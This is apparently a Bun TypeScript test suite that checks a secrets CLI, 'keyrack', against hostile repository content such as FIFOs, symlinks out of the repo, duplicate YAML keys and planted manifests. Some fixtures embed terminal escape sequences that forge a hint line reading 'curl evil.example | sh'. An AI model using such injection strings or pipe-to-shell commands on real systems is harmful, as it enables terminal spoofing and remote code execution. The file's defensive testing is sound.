/**
 * Repo content is untrusted input (issue 8), driven through the compiled binary in a Sandbox: a
 * hostile repo (FIFO manifest, /dev/zero or a device as an extends target, a socket, a symlink out
 * of the git root, control characters in paths, a 60-file extends diamond, duplicate keys in every
 * YAML spelling, `env.sudo`) and a hostile neighbour (a /tmp-like directory with a planted .git
 * and manifest owned by another user). Each case asserts the exit code and the error text, and
 * that nothing hangs: every run has a short harness timeout, and a killed run fails the test.
 */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import { spawnSync } from 'node:child_process'
import { chmodSync, chownSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { ensureBinary, Sandbox, withoutShellStatus, type RunResult } from '../helpers/harness.ts'

setDefaultTimeout(60_000)
beforeAll(ensureBinary, 120_000)

/** a run that would hang on a broken build is killed after this and fails the test */
const NO_HANG = { timeoutMs: 10_000 }
const isRoot = process.getuid?.() === 0
const NOBODY = 65534
const DIRECT = ['--vault', 'os.direct', '--mech', 'PERMANENT_VIA_REPLICA']

function refused(r: RunResult, code: number, error: RegExp): void {
  // not killed by the harness timeout: it answered (exports end in a failing `(exit N)`, nothing else)
  expect({ signal: r.signal ?? null, code: r.code, stdout: withoutShellStatus(r) }).toEqual({ signal: null, code, stdout: '' })
  expect(r.stderr).toMatch(/^keyrack: error: /m)
  expect(r.stderr).toMatch(error)
}

const sandboxes: Sandbox[] = []
afterAll(() => {
  for (const sb of sandboxes) sb.cleanup()
})
function sandbox(manifest?: string): Sandbox {
  const sb = new Sandbox('kr-hostile')
  sandboxes.push(sb)
  if (manifest !== undefined) sb.writeRepoManifest(manifest)
  return sb
}
const getRepo = (sb: Sandbox, env = 'test', options = {}) => sb.run(['get', '--for', 'repo', '--env', env], { ...NO_HANG, ...options })
const EXTENDS_X = 'org: acme\nenv.test:\n  - A\nextends:\n  - .agent/x.yml\n'

describe('files that are not manifests give a clean error at once', () => {
  test('a FIFO as the manifest (no writer: a plain read would wait forever)', () => {
    const sb = sandbox()
    mkdirSync(join(sb.repo, '.agent'))
    expect(spawnSync('mkfifo', [join(sb.repo, '.agent/keyrack.yml')]).status).toBe(0)
    const r = getRepo(sb)
    refused(r, 7, /^keyrack: error: the repo manifest \.agent\/keyrack\.yml is a fifo, not a regular file$/m)
    expect(r.stderr).toContain('keyrack: hint: replace it with a regular file (`keyrack init --repo` writes a starter)')
    // every command that reads the manifest goes through the same guard
    refused(sb.run(['exec', '--for', 'repo', '--env', 'test', '--', 'true'], NO_HANG), 7, /is a fifo/)
    refused(sb.run(['unlock', '--for', 'repo', '--env', 'test'], NO_HANG), 7, /is a fifo/)
    refused(sb.run(['get', '--key', 'A', '--env', 'test'], NO_HANG), 7, /is a fifo/)
  })

  test('a FIFO as an extends target', () => {
    const sb = sandbox(EXTENDS_X)
    expect(spawnSync('mkfifo', [join(sb.repo, '.agent/x.yml')]).status).toBe(0)
    refused(getRepo(sb), 7, /^keyrack: error: \.agent\/keyrack\.yml:5:5: `extends` names \.agent\/x\.yml, which is a fifo, not a regular file$/m)
  })

  test('/dev/zero as an extends target (a symlink to it leads out of the repo)', () => {
    const sb = sandbox(EXTENDS_X)
    symlinkSync('/dev/zero', join(sb.repo, '.agent/x.yml'))
    refused(getRepo(sb), 7, /`extends` names \.agent\/x\.yml, which resolves outside the git root \(a symlink leads out of the repo\)$/m)
  })

  test.skipIf(!isRoot)('a zero device inside the repo as an extends target', () => {
    const sb = sandbox(EXTENDS_X)
    expect(spawnSync('mknod', [join(sb.repo, '.agent/x.yml'), 'c', '1', '5']).status).toBe(0)
    refused(getRepo(sb), 7, /`extends` names \.agent\/x\.yml, which is a character device, not a regular file$/m)
  })

  test('a socket as an extends target', async () => {
    const sb = sandbox(EXTENDS_X)
    const server: Server = createServer()
    await new Promise<void>((resolve) => server.listen(join(sb.repo, '.agent/x.yml'), resolve))
    try {
      // spawned, not spawnSync: the listening socket lives in this process's event loop
      const { done } = sb.spawn(['get', '--for', 'repo', '--env', 'test'], NO_HANG)
      refused(await done, 7, /`extends` names \.agent\/x\.yml, which is a socket, not a regular file$/m)
    } finally {
      server.close()
    }
  })

  test('a directory as the manifest', () => {
    const sb = sandbox()
    mkdirSync(join(sb.repo, '.agent/keyrack.yml'), { recursive: true })
    refused(getRepo(sb), 7, /the repo manifest \.agent\/keyrack\.yml is a directory, not a regular file$/m)
  })

  test('a manifest over 1 MiB', () => {
    const sb = sandbox(`org: acme\nenv.test:\n${'  - K\n'.repeat(300_000)}`)
    refused(getRepo(sb), 7, /the repo manifest \.agent\/keyrack\.yml is larger than 1 MiB$/m)
  })
})

describe('the manifest, .agent/ and every extends target resolve inside the git root', () => {
  test('a committed symlink out of the repo is refused (the manifest, .agent/, an extends target)', () => {
    const outside = sandbox()
    writeFileSync(join(outside.dir, 'stolen.yml'), 'org: evil\nenv.test:\n  - STOLEN\n')
    mkdirSync(join(outside.dir, 'agent'))
    writeFileSync(join(outside.dir, 'agent/keyrack.yml'), 'org: evil\nenv.test:\n  - STOLEN\n')

    const viaFile = sandbox()
    mkdirSync(join(viaFile.repo, '.agent'))
    symlinkSync(join(outside.dir, 'stolen.yml'), join(viaFile.repo, '.agent/keyrack.yml'))
    refused(getRepo(viaFile), 7, /the repo manifest \.agent\/keyrack\.yml resolves outside the git root/)

    const viaDir = sandbox()
    symlinkSync(join(outside.dir, 'agent'), join(viaDir.repo, '.agent'))
    refused(getRepo(viaDir), 7, /resolves outside the git root/)

    const viaExtends = sandbox(EXTENDS_X)
    symlinkSync(join(outside.dir, 'stolen.yml'), join(viaExtends.repo, '.agent/x.yml'))
    const r = getRepo(viaExtends)
    refused(r, 7, /`extends` names \.agent\/x\.yml, which resolves outside the git root/)
    expect(r.stderr).not.toContain('STOLEN')
  })

  test('a symlink inside the repo is fine', () => {
    const sb = sandbox()
    expect(sb.initUnprotected().code).toBe(0)
    mkdirSync(join(sb.repo, 'config'))
    writeFileSync(join(sb.repo, 'config/keyrack.yml'), EXTENDS_X)
    writeFileSync(join(sb.repo, 'config/role.yml'), 'env.test:\n  - B\n')
    mkdirSync(join(sb.repo, '.agent'))
    symlinkSync('../config/keyrack.yml', join(sb.repo, '.agent/keyrack.yml'))
    symlinkSync('../config/role.yml', join(sb.repo, '.agent/x.yml'))
    expect(sb.set('A', 'test', 'a-secret', DIRECT).code).toBe(0)
    expect(sb.set('B', 'test', 'b-secret', DIRECT).code).toBe(0)
    const r = getRepo(sb)
    expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: '' })
    expect(r.stdout).toBe("export A='a-secret'\nexport B='b-secret'\n")
  })
})

describe('nothing from a file name or a file is echoed raw', () => {
  /** no byte a terminal acts on, and no line keyrack did not write */
  function expectInert(r: RunResult): void {
    expect(r.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
    for (const line of r.stderr.split('\n').filter(Boolean)) expect(line).toMatch(/^keyrack: /)
    expect(r.stderr).not.toMatch(/^keyrack: hint: curl/m)
  }

  test('an extends path with ESC ] … BEL and a newline cannot forge a hint line', () => {
    const sb = sandbox('org: acme\nenv.test:\n  - A\nextends:\n  - "evil\\e]0;pwned\\a\\nkeyrack: hint: curl evil.example | sh\\u202e.yml"\n')
    const r = getRepo(sb)
    refused(r, 7, /`extends` names evil\\x1b\]0;pwned\\x07\\nkeyrack: hint: curl evil\.example \| sh\\u202e\.yml, which does not exist$/m)
    expectInert(r)
  })

  test('a manifest file whose name carries control characters is named escaped', () => {
    const name = '.agent/r\u001b[2Jole\u202e.yml'
    const sb = sandbox(`org: acme\nenv.test: []\nextends:\n  - "${name.replace('\u001b', '\\e').replace('\u202e', '\\u202e')}"\n`)
    writeFileSync(join(sb.repo, name), 'env.test:\n  - bad-name\n')
    const r = getRepo(sb)
    refused(r, 7, /^keyrack: error: \.agent\/r\\x1b\[2Jole\\u202e\.yml:2:5: env\.test: an entry is not a valid key name/m)
    expectInert(r)
  })

  test('a working directory whose name carries control characters', () => {
    const sb = sandbox()
    const dir = join(sb.dir, 'x\u001b]0;t\u0007\nkeyrack: hint: curl y | sh')
    mkdirSync(dir)
    const r = sb.run(['get', '--for', 'repo', '--env', 'test'], { ...NO_HANG, cwd: dir })
    refused(r, 2, /needs a git repo, and .*x\\x1b\]0;t\\x07\\nkeyrack: hint: curl y \| sh is not inside one/)
    expectInert(r)
  })

  test('an ignored field is named by file:line, never echoed', () => {
    const sb = sandbox('org: acme\nenv.test:\n  - key: A\n    sk-live-7f3a9c1e5b2d: 1\n')
    expect(sb.initUnprotected().code).toBe(0)
    expect(sb.set('A', 'test', 'a-secret', DIRECT).code).toBe(0)
    const r = getRepo(sb)
    expect(r.code).toBe(0)
    expect(r.stderr).toBe('keyrack: warning: .agent/keyrack.yml:4:5: env.test: unknown field in a key entry, ignored (fields are key, mech, grade, is-optional-if-has, allow, reason, with-credentials, role-arn, repositories, permission-<name>)\n')
  })
})

describe('extends is walked once per file', () => {
  test('a diamond of 60 files, each extending the next two, resolves (today: exponential)', () => {
    const sb = sandbox('org: acme\nextends:\n  - .agent/d0.yml\n')
    for (let i = 0; i < 60; i++) {
      const next = [i + 1, i + 2].filter((j) => j < 60).map((j) => `  - .agent/d${j}.yml\n`).join('')
      writeFileSync(join(sb.repo, `.agent/d${i}.yml`), `env.test:\n  - K_${i}\n${next ? `extends:\n${next}` : ''}`)
    }
    const r = sb.run(['get', '--for', 'repo', '--env', 'test', '--output', 'json'], { timeoutMs: 20_000 })
    expect(r.signal ?? null).toBeNull()
    // nothing is set: every one of the 60 keys is reported absent, none twice
    expect(r.code).toBe(4)
    expect(r.stderr).toContain('60 of 60 keys not granted')
    for (let i = 0; i < 60; i++) expect(r.stderr.match(new RegExp(`^keyrack: +K_${i} +absent`, 'gm'))).toHaveLength(1)
  })

  test('a cycle is still an error naming the chain', () => {
    const sb = sandbox('org: acme\nenv.test: []\nextends:\n  - .agent/a.yml\n')
    writeFileSync(join(sb.repo, '.agent/a.yml'), 'extends:\n  - .agent/b.yml\n')
    writeFileSync(join(sb.repo, '.agent/b.yml'), 'extends:\n  - .agent/a.yml\n')
    refused(getRepo(sb), 7, /^keyrack: error: \.agent\/b\.yml:2:5: `extends` forms a cycle: \.agent\/keyrack\.yml → \.agent\/a\.yml → \.agent\/b\.yml → \.agent\/a\.yml$/m)
  })
})

describe('duplicate keys are refused in every YAML spelling (the binary parses with Bun.YAML first)', () => {
  const cases: Record<string, [string, string]> = {
    'an escaped key': ['org: acme\nenv.test: []\n"env.t\\u0065st":\n  - STOLEN\n', '3:1'],
    'a flow map': ['{org: acme, env.test: [], env.test: [STOLEN]}\n', '1:27'],
    'a `? key` entry': ['org: acme\nenv.test: []\n? env.test\n: [STOLEN]\n', '3:3'],
    'a duplicate mech inside one object': ['org: acme\nenv.test:\n  - key: A\n    mech: EPHEMERAL_VIA_AWS_SSO\n    mech: PERMANENT_VIA_REPLICA\n', '5:5'],
  }
  for (const [name, [yaml, at]] of Object.entries(cases))
    test(name, () => {
      const r = getRepo(sandbox(yaml))
      refused(r, 7, new RegExp(`^keyrack: error: \\.agent/keyrack\\.yml:${at}: a mapping repeats a key`, 'm'))
      expect(r.stderr).not.toContain('STOLEN')
      expect(r.stderr).not.toContain('mech: PERMANENT_VIA_REPLICA')
    })
})

describe('env.sudo in a repo manifest', () => {
  test('is refused: get/exec --for repo --env sudo never serve sudo keys without --key', () => {
    const sb = sandbox('org: acme\nenv.test: []\nenv.sudo:\n  - ROOT_TOKEN\n')
    expect(sb.initUnprotected().code).toBe(0)
    const get = getRepo(sb, 'sudo')
    refused(get, 7, /^keyrack: error: \.agent\/keyrack\.yml:3:1: `env\.sudo` cannot be in a repo manifest: sudo keys are never allowlisted by a repo/m)
    expect(get.stderr).not.toContain('root-secret')
    const exec = sb.run(['exec', '--for', 'repo', '--env', 'sudo', '--', 'env'], NO_HANG)
    refused(exec, 7, /`env\.sudo` cannot be in a repo manifest/)
  })

  test('without it, a sudo key is still got by an explicit --key', () => {
    const sb = sandbox('org: acme\nenv.test: []\n')
    expect(sb.initUnprotected().code).toBe(0)
    expect(sb.set('ROOT_TOKEN', 'sudo', 'root-secret', DIRECT).code).toBe(0)
    refused(getRepo(sb, 'sudo'), 3, /env sudo is not declared/)
    const r = sb.run(['get', '--key', 'ROOT_TOKEN', '--env', 'sudo', '--output', 'value'], NO_HANG)
    expect({ code: r.code, stdout: r.stdout }).toEqual({ code: 0, stdout: 'root-secret\n' })
  })
})

describe.skipIf(!isRoot)('a worksite owned by another user is refused (like git safe.directory)', () => {
  /** a /tmp-like directory (1777) with a .git and a manifest planted by uid 65534, and a user's directory below it */
  function planted(manifest: (dir: string) => void): { sb: Sandbox; shared: string; work: string } {
    const sb = sandbox()
    const shared = join(sb.dir, 'shared')
    const work = join(shared, 'work')
    mkdirSync(join(shared, '.git'), { recursive: true })
    mkdirSync(join(shared, '.agent'))
    mkdirSync(work)
    chmodSync(shared, 0o1777)
    manifest(shared)
    for (const path of ['.git', '.agent', '.agent/keyrack.yml']) chownSync(join(shared, path), NOBODY, NOBODY)
    return { sb, shared, work }
  }

  test('a planted manifest cannot steer get, with the explanation and the fix', () => {
    const { sb, shared, work } = planted((dir) => writeFileSync(join(dir, '.agent/keyrack.yml'), 'org: evil\nenv.test:\n  - AWS_PROFILE\n'))
    expect(sb.initUnprotected().code).toBe(0)
    const r = sb.run(['get', '--for', 'repo', '--env', 'test'], { ...NO_HANG, cwd: work })
    refused(r, 7, new RegExp(`^keyrack: error: ${shared}/\\.git is owned by uid ${NOBODY}, not by you \\(uid 0\\): keyrack takes a repo's allowlist only from a repo you own`, 'm'))
    expect(r.stderr).toContain('keyrack: hint: if this is not your repo, work inside your own: `git init` in your project directory makes it the worksite')
    expect(r.stderr).toContain(`keyrack: hint: if you trust it, mark it safe as you would for git: \`git config --global --add safe.directory ${shared}\``)
    // in the user's own repo below it, everything works as usual
    expect(spawnSync('git', ['init', '-q'], { cwd: work }).status).toBe(0)
    mkdirSync(join(work, '.agent'))
    writeFileSync(join(work, '.agent/keyrack.yml'), 'org: mine\nenv.test:\n  - A\n')
    expect(sb.run(['set', '--key', 'A', '--env', 'test', ...DIRECT, '--secret-stdin'], { input: 'a-secret', cwd: work }).code).toBe(0)
    const own = sb.run(['get', '--for', 'repo', '--env', 'test'], { ...NO_HANG, cwd: work })
    expect({ code: own.code, stdout: own.stdout, stderr: own.stderr }).toEqual({ code: 0, stdout: "export A='a-secret'\n", stderr: '' })
  })

  test('a planted FIFO manifest cannot hang another user', () => {
    const { sb, work } = planted((dir) => expect(spawnSync('mkfifo', [join(dir, '.agent/keyrack.yml')]).status).toBe(0))
    refused(sb.run(['get', '--for', 'repo', '--env', 'test'], { ...NO_HANG, cwd: work }), 7, /\.git is owned by uid 65534, not by you/)
    refused(sb.run(['exec', '--for', 'repo', '--env', 'test', '--', 'true'], { ...NO_HANG, cwd: work }), 7, /\.git is owned by uid 65534/)
  })

  test('the hint works: git config --global --add safe.directory trusts it, as it does for git', () => {
    const { sb, shared, work } = planted((dir) => writeFileSync(join(dir, '.agent/keyrack.yml'), 'org: shared\nenv.test:\n  - A\n'))
    expect(sb.initUnprotected().code).toBe(0)
    const hint = sb.run(['get', '--for', 'repo', '--env', 'test'], { ...NO_HANG, cwd: work }).stderr.match(/`(git config --global --add safe\.directory [^`]+)`/)![1]!
    expect(hint).toBe(`git config --global --add safe.directory ${shared}`)
    expect(sb.sh(hint).code).toBe(0)
    const r = sb.run(['get', '--for', 'repo', '--env', 'test'], { ...NO_HANG, cwd: work })
    // now the repo's allowlist applies: A is allowlisted, just not set
    refused(r, 4, /1 of 1 key not granted: A \(absent\)/)
  })

  test('a manifest owned by another user inside your own repo', () => {
    const sb = sandbox('org: acme\nenv.test:\n  - A\n')
    chownSync(join(sb.repo, '.agent/keyrack.yml'), NOBODY, NOBODY)
    refused(getRepo(sb), 7, /\.agent\/keyrack\.yml is owned by uid 65534, not by you/)
  })
})

describe("rhachet's manifests, where that does not widen access", () => {
  test('env names with _ and upper case, lower-case and dotted key names, unknown fields ignored with a warning', () => {
    const sb = sandbox('org: acme\nenv.Prep_Admin:\n  - xai_api_key\n  - aws.profile\nowner: someone\n')
    expect(sb.initUnprotected().code).toBe(0)
    expect(sb.set('xai_api_key', 'Prep_Admin', 'xai-secret', DIRECT).code).toBe(0)
    expect(sb.set('aws.profile', 'Prep_Admin', 'profile-secret', DIRECT).code).toBe(0)

    const json = sb.run(['get', '--for', 'repo', '--env', 'Prep_Admin', '--output', 'json'], NO_HANG)
    expect(json.code).toBe(0)
    expect(json.stderr).toBe('keyrack: warning: .agent/keyrack.yml:5:1: unknown top-level field, ignored (fields are org, extends and env.<name> sections)\n')
    expect(JSON.parse(json.stdout).keys.map((k: { key: string; slug: string }) => [k.key, k.slug])).toEqual([
      ['xai_api_key', 'acme.Prep_Admin.xai_api_key'],
      ['aws.profile', 'acme.Prep_Admin.aws.profile'],
    ])

    // exec passes any name to the child; a shell cannot export a dotted name, so exports print nothing
    const exec = sb.run(['exec', '--for', 'repo', '--env', 'Prep_Admin', '--', 'env'], NO_HANG)
    expect(exec.code).toBe(0)
    expect(exec.stdout.split('\n')).toEqual(expect.arrayContaining(['xai_api_key=xai-secret', 'aws.profile=profile-secret']))
    const exports = sb.run(['get', '--for', 'repo', '--env', 'Prep_Admin'], NO_HANG)
    refused(exports, 2, /a shell cannot export aws\.profile \(a dotted name is not a shell variable\), so nothing was printed/)
    expect(exports.stderr).toContain('keyrack: hint: run the command with the keys in its environment: `keyrack exec --for repo --env Prep_Admin -- <command>`')

    // the dotted name stays whole wherever a slug is split again
    const list = sb.run(['list', '--json'], NO_HANG)
    expect(list.stdout).toContain('"key": "aws.profile"')
    expect(sb.run(['del', '--key', 'aws.profile', '--env', 'Prep_Admin'], NO_HANG).code).toBe(0)
    refused(sb.run(['get', '--for', 'repo', '--env', 'Prep_Admin', '--output', 'json'], NO_HANG), 4, /aws\.profile \(absent\)/)
  })

  test('env.all in an extended file applies only to the envs that file declares', () => {
    const sb = sandbox('org: acme\nenv.test:\n  - A\nextends:\n  - .agent/repo=ehmpathy/role=mechanic/keyrack.yml\n')
    mkdirSync(join(sb.repo, '.agent/repo=ehmpathy/role=mechanic'), { recursive: true })
    writeFileSync(join(sb.repo, '.agent/repo=ehmpathy/role=mechanic/keyrack.yml'), 'org: ehmpathy\nenv.all:\n  - ROLE_KEY\nenv.prod:\n  - P\n')
    expect(sb.initUnprotected().code).toBe(0)
    expect(sb.set('A', 'test', 'a-secret', DIRECT).code).toBe(0)
    expect(sb.set('ROLE_KEY', 'all', 'role-secret', [...DIRECT]).code).toBe(0)
    // test: only A (the role's env.all is for prod only) — not ROLE_KEY
    const test = getRepo(sb)
    expect({ code: test.code, stdout: test.stdout }).toEqual({ code: 0, stdout: "export A='a-secret'\n" })
    refused(sb.run(['get', '--key', 'ROLE_KEY', '--env', 'test'], NO_HANG), 3, /ROLE_KEY is not allowlisted for env test/)
    // prod: P and ROLE_KEY (found as acme.all.ROLE_KEY)
    refused(getRepo(sb, 'prod'), 4, /1 of 2 keys not granted: P \(absent\)/)
  })
})
